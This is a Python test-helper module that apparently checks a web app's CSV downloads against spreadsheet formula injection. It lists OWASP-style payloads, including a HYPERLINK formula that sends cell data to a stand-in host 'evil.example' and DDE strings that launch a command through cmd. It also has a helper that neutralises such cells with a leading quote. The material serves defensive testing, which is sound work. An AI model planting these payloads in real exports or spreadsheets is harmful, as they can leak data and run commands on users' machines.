"""Reading a CSV download the way a spreadsheet user gets it, and the formulas to attack it with."""

import codecs
import csv
import io

# One per character OWASP names: =, +, -, @, tab and carriage return.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def download(response) -> tuple[bytes, list[list[str]]]:
    """The streamed body, and its rows once the byte order mark is read as one."""
    assert response.status_code == 200
    assert response.streaming is True
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="')
    body = b"".join(response.streaming_content)
    assert body.startswith(codecs.BOM_UTF8) and not body[3:].startswith(codecs.BOM_UTF8)
    return body, list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def inert(text: str) -> str:
    """What a text cell starting with a formula character must come out as."""
    return "'" + text
